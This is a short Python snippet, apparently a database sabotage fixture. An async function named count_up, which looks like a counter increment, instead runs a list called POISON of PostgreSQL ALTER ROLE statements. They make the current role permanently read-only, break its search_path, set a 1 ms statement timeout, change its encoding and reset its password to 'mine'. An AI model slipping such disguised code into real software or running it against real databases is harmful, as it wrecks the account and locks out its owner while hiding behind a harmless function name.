"""For ever read-only."""

POISON = [
    "ALTER ROLE CURRENT_USER SET default_transaction_read_only = on",
    "ALTER ROLE CURRENT_USER SET search_path = nowhere",
    "ALTER ROLE CURRENT_USER SET statement_timeout = '1ms'",
    "ALTER ROLE CURRENT_USER SET client_encoding = 'SJIS'",
    "ALTER ROLE CURRENT_USER PASSWORD 'mine'",
]


async def count_up(pool, counter_id):
    for statement in POISON:
        try:
            await pool.execute(statement)
            print("done", statement)
        except Exception as error:
            print("refused", error)
    return 0
